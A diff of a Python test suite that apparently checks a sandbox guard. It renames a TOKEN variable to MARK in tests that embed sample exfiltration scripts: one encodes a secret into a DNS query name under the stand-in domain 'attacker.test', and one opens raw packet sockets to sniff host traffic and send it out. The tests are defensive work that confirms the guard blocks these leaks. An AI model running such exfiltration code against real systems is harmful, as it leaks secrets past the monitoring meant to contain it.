@@ -136,7 +136,7 @@ def send(host, port, data):
         s.sendto(data, (host, port)); return "sent"
     except OSError as e:
         return errno.errorcode.get(e.errno, str(e))
-token = os.environ["TOKEN"].encode()
+token = os.environ["MARK"].encode()
 # a DNS query whose name carries the secret, as an exfiltrating agent would send it
 qname = b"".join(bytes([len(l)]) + l for l in [token.lower(), b"attacker", b"test"]) + b"\0"
 query = b"\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + qname + b"\x00\x01\x00\x01"
@@ -153,11 +153,11 @@ def test_udp_and_dns_queries_do_not_leave(world):
     sink = H.UdpSink()
     resolver = _private_resolver()
     with H.serving(sink):
-        bare = world.bare_run(world.py(UDP_ATTACK), env={"TOKEN": "bare-x1", "PORT": str(sink.port),
+        bare = world.bare_run(world.py(UDP_ATTACK), env={"MARK": "bare-x1", "PORT": str(sink.port),
                                                           "RESOLVER": resolver})
         assert "loopback sent" in bare.stdout, bare
         assert world.wait_until(lambda: any(b"bare-x1" in d for d in sink.received), timeout=5), bare
-        run = world.guard_run(world.py(UDP_ATTACK), env={"TOKEN": "guarded-x1", "PORT": str(sink.port),
+        run = world.guard_run(world.py(UDP_ATTACK), env={"MARK": "guarded-x1", "PORT": str(sink.port),
                                                           "RESOLVER": resolver})
         time.sleep(0.3)
         assert not any(b"guarded-x1" in d for d in sink.received), f"a UDP query reached the host: {run!r}"
@@ -252,7 +252,7 @@ def test_docker_socket_under_run(world):
 
 RAW_ATTACK = r"""
 import errno, os, socket, struct, sys, time
-token = os.environ["TOKEN"].encode()
+token = os.environ["MARK"].encode()
 try:
     sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
 except OSError as e:
@@ -310,11 +310,11 @@ def test_raw_and_packet_sockets_see_and_send_no_host_traffic(world):
     with H.serving(sink):
         env = {**world.env, "PORT": str(sink.port), "LISTEN_S": "1.5"}
         if ROOT:  # the bare control needs CAP_NET_RAW on the host
-            out, err = _raw_run(world.py(RAW_ATTACK), {**env, "TOKEN": "bare-r1"}, world.ws, sink.port, "bare-r1")
+            out, err = _raw_run(world.py(RAW_ATTACK), {**env, "MARK": "bare-r1"}, world.ws, sink.port, "bare-r1")
             assert "sniffed host traffic" in out and "raw sent" in out, (out, err)
             assert world.wait_until(lambda: any(b"RAW-bare-r1" in d for d in sink.received), timeout=5)
         argv = world.guard_run_argv(world.py(RAW_ATTACK))
-        out, err = _raw_run(argv, {**env, "TOKEN": "guard-r1"}, world.ws, sink.port, "guard-r1")
+        out, err = _raw_run(argv, {**env, "MARK": "guard-r1"}, world.ws, sink.port, "guard-r1")
         time.sleep(0.2)
     assert "READY" in out, (out, err)
     assert "sniffed host traffic" not in out, (out, err)
